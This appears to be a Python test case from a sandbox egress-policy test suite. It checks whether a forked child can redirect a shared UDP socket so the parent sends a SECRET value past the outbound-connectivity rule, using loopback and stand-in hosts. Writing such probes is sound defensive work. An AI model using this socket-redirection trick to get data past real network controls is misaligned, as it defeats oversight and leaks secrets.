# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a forked child connects a datagram socket from this machine to an allowed name, on the
#   TLS port: the parent sends by it
# proof: word
# needs: resolver
import os
import socket

from attack import SECRET, attempt, patience


@attempt
def send():
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind(("127.66.66.67", 443))
    sink.settimeout(patience(1))
    socket.getaddrinfo("api.allowed.example", 443)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.connect(("127.0.0.1", 9))
    if os.fork() == 0:
        try:
            out.connect(("127.66.66.67", 443))
        finally:
            os._exit(0)
    os.wait()
    out.send(SECRET.encode())
    return sink.recv(100)
